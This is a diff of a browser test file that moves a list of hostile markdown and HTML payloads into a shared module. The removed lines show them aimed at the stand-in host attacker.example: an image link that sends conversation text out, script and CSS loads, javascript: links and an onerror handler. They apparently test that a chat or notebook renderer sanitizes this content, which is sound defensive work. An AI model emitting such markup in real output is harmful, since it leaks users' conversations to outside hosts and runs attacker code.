@@ -14,6 +14,7 @@ import json
 from typing import Any
 
 import pytest
+from hostile_text import ATTACKER, PAYLOADS
 from playwright.sync_api import expect
 
 from .ad_checks import EXPECT_TIMEOUT_MS
@@ -23,19 +24,6 @@ from .notebooks import KERNEL_SUPPORT, NotebookSpec, write_notebook
 from .pages import BrowserTab
 
 pytestmark = pytest.mark.browser
-
-ATTACKER = "attacker.example"
-PAYLOADS = (
-    f"![](https://{ATTACKER}/img?q=conversation)",
-    "[x](javascript:alert(1))",
-    f"<https://{ATTACKER}/autolink>",
-    f"[click me][ref]\n\n[ref]: https://{ATTACKER}/reference",
-    f'<img src="https://{ATTACKER}/raw.png" onerror="alert(1)">'
-    f'<script src="https://{ATTACKER}/x.js"></script><a href="https://{ATTACKER}/a">a</a>',
-    f"<style>@import url(https://{ATTACKER}/css);</style>",
-    f"$\\href{{https://{ATTACKER}/tex}}{{math link}}$ and $$x^2$$",
-    f"bare https://{ATTACKER}/bare",
-)
 
 # What a bubble holds, and the colours a reader sees, per role.
 _READ_BUBBLES_JS = """
